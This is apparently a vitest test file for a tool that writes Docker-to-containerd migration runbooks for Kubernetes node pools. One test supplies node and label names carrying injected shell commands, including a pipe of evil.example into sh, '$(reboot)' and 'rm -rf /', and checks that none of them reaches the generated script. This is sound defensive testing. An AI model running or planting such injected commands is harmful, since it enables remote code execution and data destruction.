import { execFile } from 'node:child_process';
import { chmod, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import type { KubeObject } from '../../lambda/kube/objects.ts';
import type { PoolPlan } from '../../lambda/report/migration.ts';
import { audit, daemonSet, node, pod, podSpec } from '../helpers/objects.ts';

const run = promisify(execFile);

/** A node with pool labels, as a cloud labels it. */
function pooled(
  name: string,
  runtime: string,
  kubelet: string,
  labels: Record<string, string>,
  criSocket?: string,
) {
  const object = node(name, runtime, kubelet, criSocket);
  return { ...object, metadata: { ...object.metadata, labels } } as KubeObject;
}

const pools = (objects: KubeObject[]): PoolPlan[] => audit(objects).migration?.pools ?? [];
const script = (pool: PoolPlan | undefined) =>
  (pool?.runbook.steps ?? []).flatMap((step) => [`# ${step.title}`, ...step.commands]).join('\n');

/** The node-side script the runbook writes with a here-document. */
function nodeScript(text: string): string {
  const match = /<<'SCRIPT'\n([\s\S]*?)\nSCRIPT\n/.exec(`${text}\n`);
  if (!match?.[1]) throw new Error('no node-side script in the runbook');
  return match[1];
}

async function syntaxCheck(shell: string, text: string): Promise<void> {
  const dir = await mkdtemp(join(tmpdir(), 'dsa-runbook-'));
  await writeFile(join(dir, 'runbook.sh'), text);
  await run(shell, ['-n', join(dir, 'runbook.sh')]);
}

describe('the runbook of a pool', () => {
  test('in place before 1.27: --container-runtime=remote and the endpoint, the kubeadm annotation, node names filled in', async () => {
    const [plan] = pools([
      node('worker-1', 'docker://20.10.7', 'v1.23.4', '/var/run/dockershim.sock'),
      node('worker-2', 'docker://20.10.7', 'v1.23.4', '/var/run/dockershim.sock'),
    ]);
    const text = script(plan);
    expect(plan?.runbook.route).toBe('in-place');
    expect(text).toContain("NODES='worker-1 worker-2'");
    expect(text).toContain(
      "FLAGS='--container-runtime=remote --container-runtime-endpoint=unix:///run/containerd/containerd.sock'",
    );
    expect(text).toContain(
      'kubectl annotate node "$node" --overwrite kubeadm.alpha.kubernetes.io/cri-socket=unix:///run/containerd/containerd.sock',
    );
    for (const step of [
      'kubectl cordon',
      'kubectl drain',
      'systemctl stop kubelet',
      'containerd config default',
      'systemctl start kubelet',
      'kubectl uncordon',
    ])
      expect(text).toContain(step);
    await syntaxCheck('bash', text);
    await syntaxCheck('sh', nodeScript(text));
  });

  test('from 1.27 the endpoint alone (the --container-runtime flag is gone), cri-dockerd stopped too', async () => {
    const [plan] = pools([
      node('worker-1', 'docker://24.0.7', 'v1.27.9', 'unix:///var/run/cri-dockerd.sock'),
    ]);
    const text = script(plan);
    expect(text).toContain("FLAGS='--container-runtime-endpoint=unix:///run/containerd/containerd.sock'");
    expect(text).not.toContain('--container-runtime=remote');
    expect(text).toContain('systemctl disable --now cri-docker.service cri-docker.socket');
    await syntaxCheck('sh', nodeScript(text));
  });

  test('kubelets on both sides of 1.27 in one pool: the script asks the kubelet', async () => {
    const labels = { 'kops.k8s.io/instancegroup': 'nodes-eu-west-1a' };
    const [plan] = pools([
      pooled('worker-1', 'docker://20.10.7', 'v1.26.5', labels),
      pooled('worker-2', 'docker://24.0.7', 'v1.27.9', labels),
    ]);
    expect(plan?.name).toBe('nodes-eu-west-1a');
    expect(plan?.source).toBe('kops-instance-group');
    const text = nodeScript(script(plan));
    expect(text).toContain(
      'kubelet --version | grep -Eq \'v1\\.(1[0-9]|2[0-6])\\.\' && FLAGS="--container-runtime=remote $FLAGS"',
    );
    await syntaxCheck('sh', text);
  });

  test('the loop goes node by node, in order, and stops at the first node that fails', async () => {
    const [plan] = pools([
      node('worker-1', 'docker://20.10.7', 'v1.23.4', '/var/run/dockershim.sock'),
      node('worker-2', 'docker://20.10.7', 'v1.23.4', '/var/run/dockershim.sock'),
      node('worker-3', 'docker://20.10.7', 'v1.23.4', '/var/run/dockershim.sock'),
    ]);
    // Stand-ins for kubectl and ssh that log what they are asked; draining worker-2 fails.
    const dir = await mkdtemp(join(tmpdir(), 'dsa-runbook-'));
    const log = join(dir, 'calls.log');
    for (const tool of ['kubectl', 'ssh']) {
      await writeFile(
        join(dir, tool),
        `#!/bin/sh\necho "${tool} $*" >> '${log}'\ncat > /dev/null 2>&1 < /dev/null\n[ "$1 $2" = "drain worker-2" ] && exit 1\nexit 0\n`,
      );
      await chmod(join(dir, tool), 0o755);
    }
    await writeFile(join(dir, 'runbook.sh'), script(plan));
    await run('bash', [join(dir, 'runbook.sh')], { cwd: dir, env: { PATH: `${dir}:/usr/bin:/bin` } });
    const calls = (await readFile(log, 'utf8'))
      .trim()
      .split('\n')
      .map((line) => line.split(' ').slice(0, 3).join(' '));
    expect(calls).toEqual([
      'kubectl cordon worker-1',
      'kubectl drain worker-1',
      'ssh worker-1 sudo',
      'kubectl annotate node',
      'kubectl wait --for=condition=Ready',
      'kubectl uncordon worker-1',
      'kubectl cordon worker-2',
      'kubectl drain worker-2',
      'kubectl get nodes',
    ]);
  });

  test('an EKS managed node group: a new group on a containerd AMI, drain, delete the old one', async () => {
    const labels = { 'eks.amazonaws.com/nodegroup': 'ng-1', 'eks.amazonaws.com/capacityType': 'ON_DEMAND' };
    const [plan] = pools([
      pooled('ip-10-0-1-10.ec2.internal', 'docker://20.10.17', 'v1.23.17-eks-a59e1f0', labels),
    ]);
    const text = script(plan);
    expect(plan?.runbook.route).toBe('eks-managed-node-group');
    expect(text).toContain(
      'aws eks create-nodegroup --cluster-name "$CLUSTER" --nodegroup-name ng-1-containerd',
    );
    expect(text).toContain("NODES='ip-10-0-1-10.ec2.internal'");
    expect(text).toContain('aws eks delete-nodegroup --cluster-name "$CLUSTER" --nodegroup-name ng-1');
    expect(text.indexOf('create-nodegroup')).toBeLessThan(text.indexOf('kubectl drain'));
    expect(text.indexOf('kubectl drain')).toBeLessThan(text.indexOf('delete-nodegroup'));
    await syntaxCheck('bash', text);
  });

  test('names that are not Kubernetes names never reach a command; the runbook says so', async () => {
    const hostile = [
      'worker-1; curl http://evil.example | sh',
      '$(reboot)',
      "w'2",
      '--all',
      'worker-\n3',
      `a${'b'.repeat(260)}`,
    ];
    const labels = { 'eks.amazonaws.com/nodegroup': 'ng-1 && rm -rf /' };
    const [plan] = pools([
      ...hostile.map((name) => pooled(name, 'docker://20.10.7', 'v1.23.4', labels)),
      pooled('worker-ok', 'docker://20.10.7', 'v1.23.4', labels),
    ]);
    const text = script(plan);
    expect(plan?.runbook.route).toBe('in-place');
    expect(text).toContain("NODES='worker-ok'");
    for (const name of [...hostile, 'rm -rf', 'evil', 'reboot']) expect(text).not.toContain(name);
    expect(plan?.runbook.notes.join(' ')).toMatch(
      /6 nodes have names that are not valid Kubernetes node names/,
    );
    expect(plan?.runbook.notes.join(' ')).toMatch(/is not one its cloud accepts/);
    await syntaxCheck('bash', text);
  });

  test('a blocked pool gets a runbook too, for after its blockers; a migrated pool none', () => {
    const agent = daemonSet(
      'agent',
      podSpec({
        hostPaths: { sock: '/var/run/docker.sock' },
        containers: [{ mounts: [{ volume: 'sock', at: '/var/run/docker.sock' }] }],
      }),
      'monitoring',
    );
    const result = pools([
      node('worker-1', 'docker://20.10.7', 'v1.23.4'),
      node('worker-2', 'containerd://1.6.4', 'v1.23.4'),
      agent,
      pod('agent-a', podSpec({ nodeName: 'worker-1', hostPaths: { sock: '/var/run/docker.sock' } }), {
        namespace: 'monitoring',
        owner: { kind: 'DaemonSet', name: 'agent' },
      }),
    ]);
    expect(result.map((entry) => [entry.name, entry.status, entry.runbook.route])).toEqual([
      ['dockershim, kubelet v1.23.4', 'blocked', 'in-place'],
      ['containerd, kubelet v1.23.4', 'migrated', 'none'],
    ]);
  });
});
